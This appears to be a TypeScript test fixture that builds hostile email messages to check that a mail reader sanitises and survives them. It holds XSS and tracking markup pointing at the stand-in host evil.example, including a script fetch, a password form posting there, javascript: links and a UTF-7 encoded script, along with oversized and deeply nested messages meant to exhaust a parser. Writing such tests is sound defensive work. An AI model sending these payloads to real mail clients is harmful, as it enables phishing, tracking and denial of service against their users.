import { outlookMessage } from '#tests/kit/mailFiles.ts';

const KB = 1024;
const mail = (headers: string[], body: string): Buffer => Buffer.from([...headers, '', body].join('\r\n'));
const html = (body: string): Buffer => mail(['Subject: Hostile', 'Content-Type: text/html; charset=utf-8'], body);

/** Nested multiparts, each of which starts the next. */
const nestedParts = (depth: number): string =>
  Array.from({ length: depth }, (_, n) => `--b${n}\r\nContent-Type: multipart/mixed; boundary=b${n + 1}\r\n`).join('\r\n');

/** Everything that a message could do to its reader: execute, load, send, redirect or cover the page. */
export const hostileMarkup = [
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<script>document.title = "taken"; fetch("https://evil.example/script")</script>',
  '<style>@import url(https://evil.example/import.css); * { position: fixed }</style>',
  '<link rel="stylesheet" href="https://evil.example/sheet.css">',
  '<img src="https://evil.example/seen.png" onerror="alert(1)"><img src="//evil.example/same.png"><img srcset="https://evil.example/set.png 1x">',
  '<p style="position:fixed;top:0;background:url(https://evil.example/back.png)" onclick="alert(1)">Covering</p>',
  '<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>',
  '<svg onload="alert(1)"><image href="https://evil.example/drawing.png"/></svg>',
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<video poster="https://evil.example/poster.png" src="https://evil.example/film.mp4"></video><audio src="https://evil.example/sound.mp3"></audio>',
  '<form action="https://evil.example/send"><input name="password"><button>Send</button></form>',
  '<a href="javascript:alert(1)">script</a><a href=" java\tscript:alert(1)">blanks</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="https://example.org/plan">the plan</a><a href="mailto:zoe@example.org">Zoë</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="cid:nobody">',
].join('\n');

/** Messages of attackers who want to harm a host or a reader. */
export function* mails(): Generator<{ name: string; bytes: Buffer }> {
  yield { name: 'markup.eml', bytes: html(hostileMarkup) };
  for (const depth of [200, 100_000])
    yield { name: `parts-${depth}.eml`, bytes: mail(['Subject: x', 'Content-Type: multipart/mixed; boundary=b0'], nestedParts(depth)) };
  yield { name: 'header.eml', bytes: mail([`Subject: ${'x'.repeat(5_000 * KB)}`], 'words') };
  yield { name: 'words.eml', bytes: mail([`Subject: ${'=?utf-8?B?eA==?= '.repeat(50_000)}`], 'words') };
  yield { name: 'people.eml', bytes: mail([`To: ${Array.from({ length: 20_000 }, (_, n) => `p${n}@example.org`).join(', ')}`], 'words') };
  yield { name: 'groups.eml', bytes: mail([`To: ${'a:'.repeat(50_000)}`], 'words') };
  for (const mark of [
    '<div>',
    '<p>',
    '<a href="',
    '<img src="',
    '<!--',
    '<style>',
    '<table><tr><td>',
    '<',
    '<b <',
    '&',
    '<p style="color:',
  ])
    yield { name: `open${mark.replace(/\W/g, '-')}.eml`, bytes: html(mark.repeat((400 * KB) / mark.length)) };
  yield { name: 'styles.eml', bytes: html(`<p style="${'color:rgb(1,2,3);'.repeat(60_000)}">x</p>`) };
  yield { name: 'functions.eml', bytes: html(`<p style="color:${'rgb('.repeat(100_000)}">x</p>`) };
  const picture = '<img src="cid:a">'.repeat(50_000);
  yield { name: 'pictures.eml', bytes: html(picture) };
  yield {
    name: 'charset.eml',
    bytes: mail(['Subject: x', 'Content-Type: text/html; charset=utf-7'], '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  };
  yield { name: 'zeros.eml', bytes: Buffer.alloc(300_000) };
  const attachments = Array.from({ length: 20_000 }, () => '--b\r\nContent-Disposition: attachment\r\n\r\nx\r\n').join('');
  yield { name: 'attachments.eml', bytes: mail(['Subject: x', 'Content-Type: multipart/mixed; boundary=b'], attachments) };
  let inner: Buffer = Buffer.from('Subject: innermost\r\n\r\nwords');
  for (let depth = 0; depth < 200; depth += 1) inner = mail(['Subject: x', 'Content-Type: message/rfc822'], inner.toString());
  yield { name: 'nested.eml', bytes: inner };
  yield { name: 'noise.msg', bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_000, 0xff)]) };
  const message = outlookMessage({ '__substg1.0_0037001F': 'Subject', '__substg1.0_10130102': Buffer.from(hostileMarkup) });
  yield { name: 'markup.msg', bytes: message };
  yield { name: 'half.msg', bytes: message.subarray(0, 1_200) };
  const within = Array.from({ length: 30 }, () => '__attach_version1.0_#00000000/__substg1.0_3701000D/').join('');
  yield { name: 'nested.msg', bytes: outlookMessage({ [`${within}__substg1.0_0037001F`]: 'Innermost' }) };
  yield {
    name: 'fixed.msg',
    bytes: outlookMessage({ '__properties_version1.0': Buffer.alloc(100_000, 0xff), '__substg1.0_1009001F': 'x' }),
  };
}
